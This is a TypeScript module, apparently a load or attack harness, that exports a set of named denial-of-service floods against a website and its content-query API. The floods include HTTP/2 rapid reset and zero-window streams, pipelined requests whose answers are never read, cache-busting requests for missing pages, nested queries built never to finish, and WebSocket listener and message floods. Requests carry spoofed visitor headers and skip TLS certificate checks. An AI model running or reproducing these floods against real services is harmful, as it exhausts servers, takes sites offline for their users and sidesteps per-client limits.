import { connect as connectSession, constants } from 'node:http2'
import { Agent as PlainAgent, get as getPlain } from 'node:http'
import { Agent, get } from 'node:https'
import { connect } from 'node:net'
import { connect as connectSecurely } from 'node:tls'

/** What a flood is sent to, and by whom. */
export interface Aim {
  /** Over TLS, so that both protocols are spoken. */
  site: URL
  content: URL
  /** A large file of the site. */
  file: string
  /** Headers that name a visitor, as a proxy adds them. */
  from: () => Record<string, string>
}

const unverified = { rejectUnauthorized: false }
const ignore = (): void => {}
let count = Date.now()

const toText = (headers: Record<string, string>): string =>
  Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')

/** Connections that send requests and read nothing; one that is closed is opened again. */
const sendUnread = (connections: number, open: () => { request: string; url: URL }): void => {
  const start = (): void => {
    const { request, url } = open()
    const [port, host] = [Number(url.port), url.hostname]
    const socket = url.protocol === 'https:' ? connectSecurely({ port, host, ...unverified }) : connect(port, host)
    socket.on('error', ignore).once('close', () => setTimeout(start, 50))
    socket.once(url.protocol === 'https:' ? 'secureConnect' : 'connect', () => {
      socket.pause()
      socket.write(request)
    })
  }
  for (let index = 0; index < connections; index += 1) start()
}

/** Requests one after the other on each connection. */
const ask = (url: URL, from: Aim['from'], toPath: (index: number) => string, connections = 40): void => {
  const options = { keepAlive: true, maxSockets: connections }
  const isSecure = url.protocol === 'https:'
  const agent = isSecure ? new Agent({ ...options, ...unverified }) : new PlainAgent(options)
  const next = (): void => {
    const headers = { 'accept-encoding': 'br', ...from() }
    const target = { host: url.hostname, port: url.port, path: toPath((count += 1)), headers, agent }
    ;(isSecure ? get : getPlain)(target, (response) => {
      response.resume().once('close', next)
    }).on('error', () => setTimeout(next, 10))
  }
  for (let index = 0; index < connections; index += 1) next()
}

const keepSession = (url: URL, settings: object, use: (session: ReturnType<typeof connectSession>) => void): void => {
  const start = (): void => {
    const session = connectSession(url, { ...unverified, settings })
    session.on('error', ignore).once('close', () => setTimeout(start, 50))
    session.once('connect', () => use(session))
  }
  start()
}

const toQuery = (query: string): string =>
  `/v2025-02-19/data/query/production?${new URLSearchParams({ query }).toString()}`

/** A filter that takes some 200 ms for each document, and is another one each time. */
const toSlowFilter = (): string => {
  const numbers = Array.from({ length: 300 }, (_, index) => index).join()
  return `*[_id != "${(count += 1)}" && count([${numbers}][count([${numbers}][@ > ${count % 300}]) > 0]) > 0]`
}

/** A text message of a WebSocket, masked with zeros. */
const toFrame = (text: string): Buffer => {
  const payload = Buffer.from(text)
  const head = Buffer.from([0x81, payload.length < 126 ? 0x80 | payload.length : 0xfe, 0, 0, 0, 0, 0, 0])
  if (payload.length >= 126) head.writeUInt16BE(payload.length, 2)
  return Buffer.concat([payload.length < 126 ? head.subarray(0, 6) : head, payload])
}

/** A WebSocket by hand, since the browser's cannot say for whom it is opened. It reads everything. */
const subscribe = ({ content, from }: Aim, use: (send: (message: object) => void) => () => void): void => {
  const start = (): void => {
    const headers = {
      connection: 'Upgrade',
      upgrade: 'websocket',
      'sec-websocket-version': '13',
      'sec-websocket-key': 'c2NoYXVmZW5zdGVyIQ==',
      ...from(),
    }
    const restart = (): void => void setTimeout(start, 50)
    getPlain(new URL('/v2025-02-19/data/listen/production', content), { headers, agent: false })
      .on('error', restart)
      .on('response', (response) => response.resume().once('close', restart))
      .on('upgrade', (_response, socket) => {
        const end = use((message) => socket.write(toFrame(JSON.stringify(message))))
        socket
          .on('error', ignore)
          .resume()
          .once('close', () => {
            end()
            restart()
          })
      })
  }
  start()
}

/** A proxy in front opens its own connections, and reads what it asks for. */
export const ARE_DIRECT: ReadonlySet<string> = new Set([
  'answers that nobody reads',
  'streams with a closed window',
  'streams that are reset at once',
])

/** Each runs until its process is ended. */
export const FLOODS: Record<string, (aim: Aim) => void> = {
  'answers that nobody reads': ({ site, file, from }) =>
    sendUnread(100, () => ({
      url: site,
      request: `GET ${file} HTTP/1.1\r\nHost: ${site.host}\r\n${toText(from())}\r\n`.repeat(200),
    })),
  'streams with a closed window': ({ site, file, from }) => {
    for (let index = 0; index < 10; index += 1)
      keepSession(site, { initialWindowSize: 0 }, (session) => {
        for (let streams = 0; streams < 200; streams += 1)
          session.request({ ':path': file, ...from() }).on('error', ignore)
      })
  },
  'streams that are reset at once': ({ site, file, from }) =>
    keepSession(site, {}, (session) => {
      const timer = setInterval(() => {
        for (let streams = 0; streams < 100 && !session.closed && !session.destroyed; streams += 1)
          session
            .request({ ':path': file, ...from() })
            .on('error', ignore)
            .close(constants.NGHTTP2_CANCEL)
      }, 20)
      session.once('close', () => clearInterval(timer))
    }),
  'pages that are not there': ({ site, from }) => ask(site, from, (index) => `/gibt-es-nicht-${index}`),
  'previews that are not there': ({ site, from }) => ask(site, from, (index) => `/gibt-es-nicht-${index}?preview=true`),
  'pages that are rendered live': ({ site, from }) =>
    ask(site, from, (index) => (index % 2 ? `/a/b/${index}` : `/${index}/leistungen`)),
  'queries that take long': ({ content, from }) =>
    ask(content, from, (index) => toQuery(`*[_id != "${index}"]{"all": count(*[references(^._id)])} | order(all)`)),
  'queries that never end': ({ content, from }) =>
    ask(content, from, (index) => toQuery(`count(*[count(*[count(*[title != "${index}"]) > 0]) > 0])`), 60),
  'four queries that never end': ({ content, from }) =>
    ask(content, from, (index) => toQuery(`count(*[count(*[count(*[title != "${index}"]) > 0]) > 0])`), 4),
  'queries with huge answers': ({ content, from }) =>
    ask(content, from, (index) => toQuery(`*[0..70]{"a": *[0..70]{"b": *[0..60], "n": ${index}}}`), 60),
  'filters that take long': (aim) =>
    subscribe(aim, (send) => {
      const timer = setInterval(
        () => send({ subscribe: 'slow', search: new URLSearchParams({ query: toSlowFilter() }).toString() }),
        100,
      )
      return () => clearInterval(timer)
    }),
  'a thousand listeners': (aim) => {
    for (let index = 0; index < 5; index += 1)
      subscribe(aim, (send) => {
        for (let name = 0; name < 200; name += 1)
          send({
            subscribe: `l${name}`,
            search: new URLSearchParams({
              query: `*[_type == "probe" && name match "${'*a'.repeat(4)}*b${(count += 1)}"]`,
              includeResult: 'true',
            }).toString(),
          })
        return ignore
      })
  },
  'messages that mean nothing': (aim) => {
    for (let index = 0; index < 5; index += 1)
      subscribe(aim, (send) => {
        const timer = setInterval(() => {
          for (let messages = 0; messages < 500; messages += 1) send({})
        }, 10)
        return () => clearInterval(timer)
      })
  },
  'large answers that nobody reads': ({ content, from }) =>
    sendUnread(60, () => ({
      url: content,
      request:
        `GET ${toQuery('*{..., "all": *}[0...40]')} HTTP/1.1\r\nHost: ${content.host}\r\n${toText(from())}\r\n`.repeat(
          5,
        ),
    })),
}
